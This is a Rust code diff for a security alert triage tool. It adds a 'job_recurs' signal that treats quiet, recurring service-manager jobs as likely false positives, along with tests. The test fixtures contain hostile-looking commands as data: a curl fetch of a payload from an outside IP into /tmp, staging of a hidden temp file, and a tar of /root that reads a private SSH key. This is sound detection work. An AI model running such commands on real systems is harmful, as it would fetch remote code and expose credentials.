@@ -220,6 +220,9 @@ struct AnchorFacts {
     /// package manager run in it (removing a package log after an install hides the
     /// install).
     quiet: bool,
+    /// Work a service manager started, quiet as a job (see `signals_for`): weighed as
+    /// `job_recurs` once its cluster shows the same act in two or more such sessions.
+    recurs: bool,
 }
 
 /// The signal that anchors a likely false positive among an alert's hits, if any, with
@@ -658,9 +661,17 @@ impl Triage<'_> {
             // The key: the attack signals present, the verdict, and whether a benign signal
             // anchored (so that a cluster never mixes alerts whose verdicts could differ).
             let mut parts: Vec<(PartKey, Agg)> = Vec::new();
-            for &i in &c.members {
-                let (mut hits, facts) = self.signals_for(rule, records, i, &sessions, seen);
-                hits.extend(hist_hits.iter().cloned());
+            let mut scored: Vec<(usize, Vec<Hit>, AnchorFacts)> = c
+                .members
+                .iter()
+                .map(|&i| {
+                    let (mut hits, facts) = self.signals_for(rule, records, i, &sessions, seen);
+                    hits.extend(hist_hits.iter().cloned());
+                    (i, hits, facts)
+                })
+                .collect();
+            recurrence(&mut scored, records, &sessions, &w);
+            for (i, hits, facts) in scored {
                 let logit: f64 = hits.iter().map(|h| w(h.id) * h.act).sum();
                 let vetoed = hits.iter().any(|h| vetoes(h.id, w(h.id) * h.act));
                 let anchor = anchor_of(&hits, facts);
@@ -1389,7 +1400,26 @@ impl Triage<'_> {
         let installed = ctx.iter().any(|c| {
             matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
         });
+        // Work a service manager started (a unit's or a timer's process tree: init, and no
+        // terminal, login, runtime exec, service, scheduler or CI runner below it), quiet by
+        // the same test as a scheduler's job, its session seen, and answering nobody outside
+        // the site: a candidate for `job_recurs` (session 13). Init alone is no evidence
+        // (`setsid cmd &` is re-parented to it), so `run_core` weighs it only when the
+        // cluster shows the same act in two or more separate such sessions.
+        let recurs = !out.iter().any(|h| h.id == "job_quiet")
+            && kinds.is_empty()
+            && !own_act_toward_attack
+            && dropped.is_none()
+            && a.network_stdio.is_none()
+            && !reached_outside
+            && shipped_executable(ev)
+            && !matches!(target_sensitivity(ev), Some((_, Sensitivity::Persistence)))
+            && crate::evidence::init_launcher(ev).is_some()
+            && sessions.seen(records, at)
+            && sessions.served_outside(r).is_none()
+            && !collects_secrets();
         let facts = AnchorFacts {
+            recurs,
             // A person's session anchors only when nothing in the whole of it counts toward
             // an attack by the strict test (tests/adversary.rs: a housekeeping removal in a
             // session that escaped from a program run through sudo, or read a workload's
@@ -1608,6 +1638,58 @@ impl Work {
                 format!("コンテナのエントリポイント {}", w.name),
             )
         })
+    }
+}
+
+/// Sessions of one cluster that must show its act, each quiet, for `job_recurs`.
+pub const RECUR_SESSIONS: usize = 2;
+
+/// `job_recurs` (session 13): the cluster's act, by work a service manager started, quiet
+/// as a job and unvetoed (`AnchorFacts::recurs`), recurred in [`RECUR_SESSIONS`] or more
+/// separate sessions of the input. Routine work repeats (a timer's nightly run, the same
+/// unit on several hosts); an intruder's act is usually once, and an intruder who repeats
+/// it must keep each session free of every step the quiet-job test and the vetoes see.
+/// Each such alert gets the signal, and `job_reads_by_purpose` when it only read a
+/// sensitive file (nothing in its session reached outside the site: the candidate's own
+/// test). Alerts that are not candidates (another lineage, a download in the session, a
+/// veto) neither count nor get it.
+fn recurrence(
+    scored: &mut [(usize, Vec<Hit>, AnchorFacts)],
+    records: &[Record],
+    sessions: &Sessions,
+    w: &dyn Fn(&str) -> f64,
+) {
+    let candidate = |hits: &[Hit], facts: &AnchorFacts| {
+        facts.recurs && !hits.iter().any(|h| vetoes(h.id, w(h.id) * h.act))
+    };
+    let mut seen_in: Vec<*const Session> = Vec::new();
+    for (i, hits, facts) in scored.iter() {
+        if !candidate(hits, facts) {
+            continue;
+        }
+        if let Some(s) = sessions.session(*i) {
+            let p = std::ptr::from_ref(s);
+            if !seen_in.contains(&p) {
+                seen_in.push(p);
+            }
+        }
+    }
+    if seen_in.len() < RECUR_SESSIONS {
+        return;
+    }
+    let n = seen_in.len().to_string();
+    for (i, hits, facts) in scored.iter_mut() {
+        if !candidate(hits, facts) || sessions.session(*i).is_none() {
+            continue;
+        }
+        hits.push(hit("job_recurs", 1.0, vec![("sessions", n.clone())]));
+        if let Some(ev) = records.get(*i).map(|r| &r.event) {
+            if reads_only(ev) {
+                if let Some((t, Sensitivity::High)) = target_sensitivity(ev) {
+                    hits.push(hit("job_reads_by_purpose", 1.0, vec![("target", t)]));
+                }
+            }
+        }
     }
 }
 
@@ -2965,6 +3047,101 @@ mod tests {
         );
         let tty = json!({"proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"});
         assert_not_anchored(&lineage_job(908, 1000, &tty, vec![]), rule, "a terminal");
+    }
+
+    /// Session 13 (helper recall13): a unit's or timer's job (init, no terminal, login,
+    /// runtime, service, scheduler or CI runner below it) is anchored by `job_recurs` only
+    /// when the same act recurs, quiet, in two or more separate sessions. One session is
+    /// not enough (`setsid cmd &` is re-parented to init too); neither is a repetition
+    /// whose other session fetched a payload, sits at a terminal, or answers a connection
+    /// from outside the site; a quiet read of a sensitive file recurring the same way is
+    /// the job's purpose (`job_reads_by_purpose`).
+    #[test]
+    fn a_timers_job_recurring_quietly_is_anchored_and_its_forgeries_are_not() {
+        let rule = "Clear Log Activities";
+        let unit = json!({"proc.tty":0,"proc.ppid":500,"proc.pname":"sh","proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"systemd"});
+        let recurs = |lines: &[String]| {
+            verdict_of(lines, rule)
+                .iter()
+                .any(|c| signals(c).contains(&"job_recurs"))
+        };
+        // Once: no anchor, whatever else.
+        let once = lineage_job(960, 1000, &unit, vec![]);
+        assert!(!recurs(&once));
+        assert_not_anchored(&once, rule, "one session");
+        // Twice, each quiet: anchored by the recurrence.
+        let mut twice = lineage_job(960, 1000, &unit, vec![]);
+        twice.extend(lineage_job(961, 90_000, &unit, vec![]));
+        let r = verdict_of(&twice, rule);
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert_eq!(r[0].anchor.as_deref(), Some("job_recurs (unattended)"));
+        // The other run fetched a payload first: it is no quiet session, and one is not
+        // a recurrence.
+        let fetch = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":90_001,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/x https://203.0.113.50/x"});
+        let mut lines = lineage_job(960, 1000, &unit, vec![]);
+        lines.extend(lineage_job(961, 90_000, &unit, vec![fetch]));
+        assert!(!recurs(&lines), "a download in the other session");
+        assert_not_anchored(&lines, rule, "a download in the other session");
+        // The other run staged a hidden file in a temporary directory (a step no routine
+        // work takes, a veto): no quiet session either.
+        let staged = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":90_001,"proc.name":"cp","proc.exepath":"/usr/bin/cp","fd.name":"/tmp/.x","evt.is_open_write":true,"fd.num":3});
+        let mut lines = lineage_job(960, 1000, &unit, vec![]);
+        lines.extend(lineage_job(961, 90_000, &unit, vec![staged]));
+        assert!(!recurs(&lines), "a hidden file staged in the other session");
+        // At a terminal, twice: a person (or an intruder), not a unit.
+        let tty = json!({"proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"systemd"});
+        let mut lines = lineage_job(962, 1000, &tty, vec![]);
+        lines.extend(lineage_job(963, 90_000, &tty, vec![]));
+        assert!(!recurs(&lines), "a terminal");
+        // The parent daemon accepted a connection from outside the site (its work answers
+        // somebody there); from inside, it is still the unit's own work.
+        let accept = |cip: &str| {
+            l(
+                json!({"evt.type":"accept4","evt.rawres":5,"evt.rawtime":900,"proc.sid":1,"proc.pid":500,"proc.name":"printd","fd.cip":cip,"fd.sip":"10.0.0.5","fd.sport":631}),
+            )
+        };
+        let mut lines = vec![accept("203.0.113.9")];
+        lines.extend(twice.iter().cloned());
+        assert!(!recurs(&lines), "served outside");
+        assert_not_anchored(&lines, rule, "served outside");
+        let mut lines = vec![accept("10.60.14.87")];
+        lines.extend(twice.iter().cloned());
+        assert!(recurs(&lines), "served inside");
+        // A sensitive file only read, recurring quietly: its purpose, likely false positive;
+        // the same with a fetch in one run: not.
+        let read = |sid: i64, t0: i64, before: Vec<serde_json::Value>| {
+            let mut evs = before;
+            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t0,"proc.name":"tar","proc.exepath":"/usr/bin/tar","proc.cmdline":"tar czf /var/backups/root.tgz /root"}));
+            evs.push(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":t0 + 1,"proc.name":"tar","proc.exepath":"/usr/bin/tar","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3}));
+            evs.into_iter()
+                .map(|mut v| {
+                    v["proc.sid"] = json!(sid);
+                    v["proc.tty"] = json!(0);
+                    v["proc.pname"] = json!("systemd");
+                    l(v)
+                })
+                .collect::<Vec<String>>()
+        };
+        let mut lines = read(970, 1000, vec![]);
+        lines.extend(read(971, 90_000, vec![]));
+        let r = verdict_of(&lines, "Read ssh");
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(
+            signals(&r[0]).contains(&"job_reads_by_purpose"),
+            "{:#?}",
+            r[0]
+        );
+        let mut lines = read(970, 1000, vec![]);
+        lines.extend(read(971, 90_000, vec![fetch_at(89_999)]));
+        for c in verdict_of(&lines, "Read ssh") {
+            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
+        }
+    }
+
+    fn fetch_at(t: i64) -> serde_json::Value {
+        json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/x https://203.0.113.50/x"})
     }
 
     /// Issue 11 (session 7): a quiet cron job that only reads a sensitive file, nothing in
